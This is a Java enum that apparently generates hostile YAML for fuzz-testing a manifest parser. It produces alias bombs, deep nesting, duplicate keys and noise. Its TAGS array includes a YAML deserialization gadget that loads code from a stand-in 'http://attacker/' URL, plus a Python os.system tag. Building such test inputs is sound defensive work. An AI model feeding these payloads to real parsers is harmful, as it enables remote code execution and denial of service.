package io.canarykit.core.manifest;

import java.util.Collections;
import java.util.Random;

/** YAML text no tree mutation can produce: alias bombs, tags, broken syntax, runaway nesting. */
enum HostileYaml {
    BILLION_LAUGHS,
    ALIAS_FLOOD,
    UNDEFINED_ALIAS,
    MERGE_CHAINS,
    DEEP_FLOW,
    DEEP_BLOCK,
    LANGUAGE_TAGS,
    DUPLICATE_KEYS,
    TRUNCATED,
    BYTE_NOISE;

    /** {@code seed} (a valid manifest as YAML) bent this way, using {@code random} for the sizes. */
    String apply(String seed, Random random) {
        return switch (this) {
            case BILLION_LAUGHS -> seed + laughs(random.nextInt(2, 12), random.nextInt(2, 12));
            case ALIAS_FLOOD -> seed + "x-anchor: &x {a: 1}\nx-flood: [" + String.join(", ",
                    Collections.nCopies(random.nextInt(1, 3 * InputLimits.MAX_ALIASES), "*x")) + "]\n";
            case UNDEFINED_ALIAS -> seed.replaceFirst("(?m)^(\\s*name: ).*$", "$1*missing" + random.nextInt(100));
            case MERGE_CHAINS -> seed + merges(random.nextInt(1, 40));
            case DEEP_FLOW -> {
                int depth = depth(random);
                yield seed + "deep: " + "[{a: ".repeat(depth) + "1" + "}]".repeat(depth) + "\n";
            }
            case DEEP_BLOCK -> seed + block(depth(random));
            case LANGUAGE_TAGS -> seed + "x-tag: " + TAGS[random.nextInt(TAGS.length)] + "\n";
            case DUPLICATE_KEYS -> seed + seed.lines().filter(l -> !l.isBlank()).findFirst().orElse("kind: x") + "\n";
            case TRUNCATED -> seed.substring(0, random.nextInt(seed.length() + 1));
            case BYTE_NOISE -> noise(seed, random);
        };
    }

    private static final String[] TAGS = {"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]",
        "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!custom {x: 1}", "!!str 1", "!!int x", "!!float nope",
        "!!timestamp 2001-12-14", "!<tag:yaml.org,2002:python/object/apply:os.system> [ls]"};

    private static int depth(Random random) {
        return random.nextInt(1, InputLimits.MAX_NESTING_DEPTH * 3);
    }

    /** {@code levels} anchors of {@code width} aliases each: width^levels values once expanded. */
    private static String laughs(int levels, int width) {
        StringBuilder yaml = new StringBuilder("l0: &l0 [lol]\n");
        for (int level = 1; level < levels; level++) {
            yaml.append('l').append(level).append(": &l").append(level).append(" [")
                    .append(String.join(", ", Collections.nCopies(width, "*l" + (level - 1)))).append("]\n");
        }
        return yaml.toString();
    }

    private static String merges(int count) {
        StringBuilder yaml = new StringBuilder("m0: &m0 {a: 1}\n");
        for (int i = 1; i < count; i++) {
            yaml.append('m').append(i).append(": &m").append(i).append(" {<<: *m").append(i - 1).append(", b").append(i)
                    .append(": 2}\n");
        }
        return yaml.toString();
    }

    private static String block(int depth) {
        StringBuilder yaml = new StringBuilder("deep:\n");
        for (int i = 1; i <= depth; i++) {
            yaml.append("  ".repeat(i)).append("k:\n");
        }
        return yaml.append("  ".repeat(depth + 1)).append("v\n").toString();
    }

    private static String noise(String seed, Random random) {
        StringBuilder text = new StringBuilder(seed);
        String specials = "{}[]:,&*!|>'\"%@`#-?\t\n\\\u0000\u00a0\u2028";
        for (int i = random.nextInt(1, 6); i > 0 && !text.isEmpty(); i--) {
            int at = random.nextInt(text.length());
            switch (random.nextInt(3)) {
                case 0 -> text.insert(at, specials.charAt(random.nextInt(specials.length())));
                case 1 -> text.deleteCharAt(at);
                default -> text.setCharAt(at, specials.charAt(random.nextInt(specials.length())));
            }
        }
        return text.toString();
    }
}
